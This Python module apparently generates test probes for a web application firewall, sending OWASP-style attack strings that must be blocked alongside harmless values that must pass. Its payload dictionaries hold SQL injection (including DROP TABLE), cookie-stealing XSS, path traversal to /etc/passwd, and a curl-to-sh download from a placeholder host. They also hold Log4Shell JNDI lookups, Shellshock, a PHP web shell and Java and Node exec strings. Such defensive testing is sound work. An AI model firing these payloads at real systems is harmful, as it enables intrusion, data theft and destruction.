"""What a web application firewall must stop: shapes of the OWASP Core Rule Set's test corpus, and harmless twins it must let pass."""

from collections.abc import Iterator
from dataclasses import replace
from typing import Final

from topology.derive.probes.doors import entering, probe, requests_of
from topology.derive.probes.entry import representatives
from topology.derive.probes.examples import JSON, WITH_BODY, protocol_of
from topology.derive.probes.expectation import Admitted, Refused
from topology.derive.probes.layer import Layer
from topology.derive.probes.probe import Family, Probe
from topology.model.service import Protocol
from topology.model.system import Topology

STOPPED: Final = Refused(by=(Layer.FIREWALL, Layer.EDGE), statuses=(400, 403, 405, 413))
ARGUMENTS: Final = {
    "sqli-tautology": "1' OR '1'='1",
    "sqli-union": "1 UNION SELECT username, password FROM users--",
    "sqli-stacked": "1; DROP TABLE accounts;--",
    "sqli-sleep": "1' AND SLEEP(5)#",
    "sqli-comment": "admin'/**/OR/**/1=1--",
    "sqli-waitfor": "1'; WAITFOR DELAY '0:0:5'--",
    "xss-script": "<script>alert(1)</script>",
    "xss-handler": '"><img src=x onerror=alert(1)>',
    "xss-svg": "<svg/onload=alert(document.cookie)>",
    "xss-scheme": '<a href="javascript:alert(1)">x</a>',
    "lfi-passwd": "../../../../etc/passwd",
    "lfi-windows": "..\\..\\..\\windows\\win.ini",
    "lfi-proc": "/proc/self/environ",
    "rfi-address": "http://198.51.100.7/shell.txt?",
    "rfi-parameter": "ftp://198.51.100.7/x.php",
    "rce-pipe": "x; cat /etc/passwd",
    "rce-substitution": "$(curl http://198.51.100.7/x|sh)",
    "shellshock": "() { :;}; /bin/bash -c 'id'",
    "php-tag": "<?php system($_GET['c']); ?>",
    "php-wrapper": "php://filter/convert.base64-encode/resource=index.php",
    "php-object": 'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "java-log4shell": "${jndi:ldap://198.51.100.7/a}",
    "java-log4shell-hidden": "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}",
    "java-runtime": "T(java.lang.Runtime).getRuntime().exec('id')",
    "java-struts": "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
    "nodejs-process": "require('child_process').exec('id')",
    "response-splitting": "x\r\nSet-Cookie: session=1",
    "null-byte": "file\0.txt",
}
"""Values of an argument, by what they try."""

SENT: Final = {
    "scanner-sqlmap": ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    "scanner-nikto": ("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
    "header-log4shell": ("user-agent", ARGUMENTS["java-log4shell"]),
    "header-shellshock": ("user-agent", ARGUMENTS["shellshock"]),
    "cookie-sqli": ("cookie", "id=1' OR '1'='1"),
    "method-override": ("x-http-method-override", "DELETE"),
    "header-underscore": ("x_perimeter_subject", "admin"),
}
"""Headers, by what they try."""

BODIES: Final = {
    "body-sqli": '{"name": "1\' UNION SELECT password FROM users--"}',
    "body-xss": '{"name": "<script>alert(1)</script>"}',
    "body-log4shell": '{"name": "${jndi:ldap://198.51.100.7/a}"}',
    "body-broken": '{"name": ',
}
"""JSON bodies."""

HARMLESS: Final = {
    "words": "select a union of two sets",
    "name": "O'Brien",
    "sum": "1 + 1 = 2",
    "mail": "anna.maria@example.org",
    "price": "10-20",
    "umlaut": "Jürgen Groß",
    "date": "2026-01-31T10:00:00Z",
}
"""Values that people write: a firewall that stops these is turned off by its users."""


def escaped(text: str) -> str:
    """Return a text as a value of a query: every byte escaped but letters and digits (RFC 3986, 2.1)."""
    return "".join(chr(byte) if chr(byte).isascii() and chr(byte).isalnum() else f"%{byte:02X}" for byte in text.encode())


def attacks(t: Topology) -> Iterator[Probe]:
    """Yield attacks at one door of each host, and attacks in bodies at a door that takes some."""
    for _, name, operation in representatives(t):
        for what, value in ARGUMENTS.items():
            asked = entering(t, name, operation, f"waf-{what}")
            attack = replace(asked, path=f"{asked.path}?q={escaped(value)}")
            yield probe(t, name, Family.FIREWALL, what, attack, STOPPED, f"argument: {what}")
        for what, (header, value) in SENT.items():
            asked = entering(t, name, operation, f"waf-{what}")
            attack = replace(asked, headers=(*asked.headers, (header, value)))
            yield probe(t, name, Family.FIREWALL, what, attack, STOPPED, f"header {header}")
        for what, value in HARMLESS.items():
            asked = entering(t, name, operation, f"waf-harmless-{what}")
            twin = replace(asked, path=f"{asked.path}?q={escaped(value)}")
            expect = Admitted(service=t.doors[name].service)
            yield probe(t, name, Family.FIREWALL, f"harmless-{what}", twin, expect, "what people write is let in")
    yield from _bodies(t)


def _bodies(t: Topology) -> Iterator[Probe]:
    for name, door in t.doors.items():
        writes = [operation for operation in requests_of(t, door) if operation.method in WITH_BODY]
        if not writes or protocol_of(t, door.service) is not Protocol.HTTP:
            continue
        for what, body in BODIES.items():
            asked = entering(t, name, writes[0], f"waf-{what}")
            attack = replace(asked, body=body, headers=(*(pair for pair in asked.headers if pair not in JSON), *JSON))
            yield probe(t, name, Family.FIREWALL, what, attack, STOPPED, f"body: {what}")
        return
